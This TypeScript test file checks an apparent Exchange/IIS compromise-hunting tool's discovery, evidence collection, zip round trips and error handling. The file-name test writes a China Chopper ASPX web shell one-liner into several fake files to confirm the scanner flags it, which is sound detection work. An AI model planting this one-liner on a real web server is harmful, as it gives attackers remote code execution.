// Live discovery, collect and scan --live against a fake Windows layout with the host's sources stubbed
// (fake-server.ts), and the collect -> scan round trip: the zip must give the findings the source gives.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { openCollection } from '../../src/evidence/gather.js';
import { logicalPath } from '../../src/evidence/logical-path.js';
import { collect, MANIFEST_NAME, type Manifest } from '../../src/live/collect.js';
import { discover } from '../../src/live/discover.js';
import { scanLive } from '../../src/live/scan-live.js';
import { fileSink, type ByteSink } from '../../src/live/zip-writer.js';
import { scanCollection } from '../../src/scan/run-scan.js';
import { generateDemo } from '../../src/sim/index.js';
import type { ScanResult } from '../../src/types.js';
import { EXCHANGE_2016_REGISTRY, fakeServer } from './fake-server.js';

let dir: string;
let demo: string;
before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'exhunt-live-test-'));
  demo = join(dir, 'demo');
  await generateDemo(demo, { layout: 'kape', eventLogs: true });
});
after(() => rm(dir, { recursive: true, force: true }));

const opts = { threads: 2, baseline: [] as string[] };

function findingKeys(r: ScanResult, rename: (p: string) => string = (p) => p): string[] {
  return r.hosts.flatMap((h) => h.findings.map((f) => `${f.rule.id}|${logicalPath(rename(f.evidence.path))}|${f.evidence.line ?? ''}|${f.level}`)).sort();
}

async function readManifest(zip: string): Promise<Manifest> {
  const col = await openCollection(zip);
  try {
    const m = col.files.find((f) => f.path === MANIFEST_NAME);
    assert.ok(m, 'the zip holds the manifest');
    return JSON.parse(await readFile(m.absPath, 'utf8')) as Manifest;
  } finally {
    await col.close();
  }
}

test('discovery: install path from the registry when the variable is absent, IIS folders from applicationHost.config', async () => {
  const calls: string[][] = [];
  const plan = await discover(fakeServer(join(demo, 'C'), { calls }));
  assert.match(plan.installFrom ?? '', /MsiInstallPath/);
  assert.ok(calls.some((c) => c[0] === 'reg' && c[1] === 'query'), 'asked the registry');
  const paths = plan.sources.map((s) => `${s.kind} ${s.dir.root}:\\${s.dir.parts.join('\\')}`);
  assert.ok(paths.includes('log C:\\inetpub\\logs\\LogFiles\\W3SVC1'));
  assert.ok(paths.includes('log C:\\inetpub\\logs\\LogFiles\\W3SVC2'));
  assert.ok(paths.includes('log C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy'));
  assert.ok(paths.includes('web C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy'));
  // served folders inside the Exchange web folders are not listed twice
  assert.ok(!paths.some((p) => /FrontEnd\\HttpProxy\\owa$/i.test(p)));

  const viaEnv = await discover(fakeServer(join(demo, 'C'), { env: { ExchangeInstallPath: 'c:\\program files\\microsoft\\exchange server\\v15\\' }, registry: {} }));
  assert.match(viaEnv.installFrom ?? '', /ExchangeInstallPath/);
  assert.ok(viaEnv.sources.some((s) => s.kind === 'log' && s.dir.parts.at(-1) === 'HttpProxy'), 'found case-insensitively');
});

test('discovery on a damaged or partial install reports what is missing and goes on', async () => {
  const root = join(dir, 'partial');
  await mkdir(join(root, 'C', 'Windows', 'System32', 'inetsrv', 'config'), { recursive: true });
  await mkdir(join(root, 'C', 'IIS', 'W3SVC1'), { recursive: true });
  await writeFile(join(root, 'C', 'IIS', 'W3SVC1', 'u_ex210303.log'), '#Software: Microsoft Internet Information Services 10.0\r\n');
  // log folder moved by the administrator: only applicationHost.config knows
  await writeFile(join(root, 'C', 'Windows', 'System32', 'inetsrv', 'config', 'applicationHost.config'), '<sites><site name="Default Web Site" id="1"><logFile directory="%SystemDrive%\\IIS" /></site></sites>');
  const registry = { 'HKLM\\SOFTWARE\\Microsoft\\ExchangeServer\\v15\\Setup': { MsiInstallPath: 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\' } };
  const plan = await discover(fakeServer(join(root, 'C'), { registry }));
  assert.equal(plan.installPath, undefined);
  assert.match(plan.unreadable.map((u) => u.reason).join('\n'), /Exchange install folder .* does not exist/);
  assert.ok(plan.sources.some((s) => s.kind === 'log' && s.dir.parts.join('\\') === 'IIS\\W3SVC1'));

  const none = await discover(fakeServer(join(root, 'C'), { registry: {} }));
  assert.match(none.notes.join('\n'), /No Exchange install path/);
});

test('Exchange 2010: the v14 registry key and the V14 folders', async () => {
  const root = join(dir, 'ex2010');
  const v14 = join(root, 'C', 'Program Files', 'Microsoft', 'Exchange Server', 'V14');
  await mkdir(join(v14, 'ClientAccess', 'Owa', 'auth'), { recursive: true });
  await mkdir(join(v14, 'Logging', 'Ews'), { recursive: true });
  await writeFile(join(v14, 'ClientAccess', 'Owa', 'auth', 'logon.aspx'), '<%@ Page %>');
  const plan = await discover(fakeServer(join(root, 'C'), { registry: { 'HKLM\\SOFTWARE\\Microsoft\\ExchangeServer\\v14\\Setup': { MsiInstallPath: 'C:\\Program Files\\Microsoft\\Exchange Server\\V14\\' } } }));
  assert.match(plan.installFrom ?? '', /v14.*Exchange 2010/);
  assert.ok(plan.sources.some((s) => s.kind === 'web' && s.dir.parts.at(-1) === 'ClientAccess'));
  assert.ok(plan.sources.some((s) => s.kind === 'log' && s.dir.parts.at(-1) === 'Ews'));
});

test('collect -> scan gives the findings of the source folder and of scan --live; the manifest hashes match', async () => {
  const calls: string[][] = [];
  const host = fakeServer(join(demo, 'C'), { calls, denyChannels: ['Security'], tmpdir: dir });
  const zip = join(dir, 'EXCH01.zip');
  const r = await collect(host, { out: zip });
  assert.equal(r.path, zip);
  const m = r.manifest;
  assert.equal(m.complete, true);
  assert.equal(m.host, 'EXCH01');
  assert.match(m.tool.version, /^\d+\.\d+\.\d+/);
  // denied access is reported, the rest collected; absent channels are noted, not errors
  assert.deepEqual(m.unreadable.map((u) => u.path), ['event log Security']);
  assert.match(m.unreadable[0]!.reason, /Access is denied/);
  assert.match(m.notes.join('\n'), /channels not present on this server: .*Sysmon/);
  assert.ok(m.files.some((f) => f.member === 'C/Windows/System32/winevt/Logs/MSExchange Management.evtx' && /wevtutil/.test(f.how)));
  assert.ok(m.files.some((f) => f.member.startsWith('registry/') && f.member.endsWith('.reg')));
  // the exports went to a private folder under the host's temp dir, which is gone
  const epl = calls.find((c) => c[0] === 'wevtutil')!;
  assert.ok(epl[3]!.startsWith(join(dir, 'exhunt-live-')));
  await assert.rejects(readFile(epl[3]!));
  // every copied file's hash is the source file's
  for (const f of m.files.filter((x) => x.how.startsWith('copied')).slice(0, 40)) {
    const local = join(demo, 'C', ...f.origin.slice(3).split('\\'));
    assert.equal(f.sha256, createHash('sha256').update(await readFile(local)).digest('hex'), f.member);
  }

  const fromSource = await scanCollection(demo, opts);
  const fromZip = await scanCollection(zip, opts);
  const live = await scanLive(host, opts);
  assert.ok(findingKeys(fromSource).length > 50, 'the demo server has findings');
  assert.deepEqual(findingKeys(fromZip), findingKeys(fromSource));
  assert.deepEqual(findingKeys(live), findingKeys(fromZip));
  assert.equal(fromZip.hosts[0]!.verdict, fromSource.hosts[0]!.verdict);
  assert.equal(live.hosts[0]!.verdict, fromZip.hosts[0]!.verdict);
  // the same files read the same way, live and from the zip (which adds only its manifest); what could not be
  // read on the server (the denied Security log) is in both coverage accounts, from the manifest for the zip
  const cov = (x: ScanResult): string[] => x.hosts[0]!.coverage.files.filter((c) => c.path !== MANIFEST_NAME).map((c) => `${c.path}|${c.kind}|${c.status}|${c.sha256 ?? ''}|${c.status === 'skipped' ? c.reason : ''}`).sort();
  assert.deepEqual(cov(live), cov(fromZip));
  assert.ok(cov(fromZip).some((c) => c.startsWith('event log Security|other|skipped||wevtutil epl failed') && /Access is denied/.test(c)));
  assert.match(live.hosts[0]!.coverage.notes.join('\n'), /Read live on EXCH01: Exchange at registry .*MsiInstallPath.*exported with wevtutil.*removed after the scan/);
});

test('names legal on one system and not the other survive collect and scan', async () => {
  const root = join(dir, 'names');
  const www = join(root, 'C', 'inetpub', 'wwwroot');
  await mkdir(www, { recursive: true });
  await mkdir(join(root, 'C', 'Windows', 'System32', 'inetsrv', 'config'), { recursive: true });
  await writeFile(join(root, 'C', 'Windows', 'System32', 'inetsrv', 'config', 'applicationHost.config'), '<sites><site name="Default Web Site" id="1"><application path="/"><virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" /></application></site></sites>');
  // a China Chopper one-liner (public, widely documented): flagged whatever the file is called
  const shell = '<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>';
  const names = ['a:b.aspx', 'x\\y.aspx', 'shell.aspx.', 'Evil.aspx', 'evil.aspx', 'CON.aspx', 'ж'.repeat(120) + '.aspx'];
  for (const n of names) await writeFile(join(www, n), shell);
  // a path past Windows' old 260-character MAX_PATH (Node's fs uses \\?\ long paths on Windows)
  const deep = Array.from({ length: 6 }, (_v, i) => `folder-${i}-`.padEnd(48, 'x'));
  await mkdir(join(www, ...deep), { recursive: true });
  await writeFile(join(www, ...deep, 'deep.aspx'), shell);
  names.push(deep.join('/') + '/deep.aspx');
  const host = fakeServer(join(root, 'C'), { registry: {}, tmpdir: dir });
  const zip = join(dir, 'names.zip');
  const r = await collect(host, { out: zip });
  assert.equal(r.manifest.files.filter((f) => f.how.startsWith('copied') && /wwwroot/.test(f.member)).length, names.length, 'every name collected, the case twins apart');
  assert.ok(r.manifest.files.some((f) => f.origin.length > 300 && f.origin.endsWith('\\deep.aspx')));
  const byMember = new Map(r.manifest.files.map((f) => [f.member, f.origin]));
  // zip paths -> the Windows path in the manifest -> collection-relative, as the source folder spells it
  const rename = (p: string): string => {
    // case twins get ~2 from collect (so the zip unpacks on Windows) or from the unpacker
    const origin = byMember.get(p) ?? byMember.get(p.replace(/~\d+$/, ''));
    return origin ? 'C/' + origin.slice(3).split('\\').join('/') : p;
  };
  const fromSource = await scanCollection(root, opts);
  const fromZip = await scanCollection(zip, opts);
  const flagged = findingKeys(fromSource).filter((k) => k.includes('wwwroot/') && k.endsWith('critical'));
  assert.equal(flagged.length, names.length, 'each planted page is flagged in the source');
  assert.deepEqual(findingKeys(fromZip, rename), findingKeys(fromSource));
});

test('a full disk ends with a clear error and a valid zip marked partial', async () => {
  const host = fakeServer(join(demo, 'C'), { tmpdir: dir });
  const out = join(dir, 'full.zip');
  // a disk with 600 kB free: writes past it fail with ENOSPC, truncation frees space
  const sink = async (p: string): Promise<ByteSink> => {
    const real = await fileSink(p);
    let used = 0;
    return {
      async write(b) {
        if (used + b.length > 600_000) throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC' });
        await real.write(b);
        used += b.length;
      },
      async truncate(n) { await real.truncate(n); used = n; },
      close: () => real.close(),
    };
  };
  const r = await collect(host, { out, sink });
  assert.equal(r.path, join(dir, 'full.partial.zip'));
  assert.equal(r.manifest.complete, false);
  assert.match(r.manifest.error ?? '', /ENOSPC/);
  assert.match(r.manifest.notes.join('\n'), /INCOMPLETE: \d+ of \d+ files are not in this zip/);
  await assert.rejects(readFile(out), 'no file carries the complete name');
  const m = await readManifest(r.path);
  assert.equal(m.complete, false);
  const col = await openCollection(r.path);
  try {
    assert.deepEqual(col.skipped, [], 'every member unpacks');
    assert.equal(col.files.length, m.files.length + 1);
    for (const f of m.files.slice(0, 20)) {
      const got = col.files.find((x) => x.path === f.member)!;
      assert.equal(createHash('sha256').update(await readFile(got.absPath)).digest('hex'), f.sha256);
    }
  } finally {
    await col.close();
  }
});

test('an existing unfinished collection is not overwritten', async () => {
  const out = join(dir, 'busy.zip');
  await writeFile(out + '.partial', 'earlier run');
  await assert.rejects(collect(fakeServer(join(demo, 'C'), { registry: EXCHANGE_2016_REGISTRY, tmpdir: dir }), { out }), /already exists/);
  assert.equal(await readFile(out + '.partial', 'utf8'), 'earlier run');
});

test('a damaged or foreign manifest in a collection never stops a scan', async () => {
  const root = join(dir, 'bad-manifest');
  await mkdir(root, { recursive: true });
  await writeFile(join(root, 'u_ex210303.log'), '#Software: Microsoft Internet Information Services 10.0\r\n#Fields: date time cs-method\r\n2021-03-03 00:00:00 GET\r\n');
  for (const body of ['{not json', JSON.stringify({ format: 'other', unreadable: [{ path: 'x', reason: 'y' }] }), JSON.stringify({ format: 'exhunt-collection/1', unreadable: [{ path: 'C:\\x', reason: 'denied' }, 42, null, { path: 1 }] })]) {
    await writeFile(join(root, MANIFEST_NAME), body);
    const r = await scanCollection(root, opts);
    const skipped = r.hosts[0]!.coverage.files.filter((c) => c.path !== MANIFEST_NAME && c.status === 'skipped' && c.kind === 'other' && c.size === 0).map((c) => `${c.path}: ${c.reason}`);
    if (body.startsWith('{not')) assert.match(r.hosts[0]!.coverage.files.find((c) => c.path === MANIFEST_NAME && c.size === 0)?.reason ?? '', /manifest not readable/);
    else if (body.includes('other')) assert.deepEqual(skipped, []);
    else assert.deepEqual(skipped, ['C:\\x: denied']);
  }
});
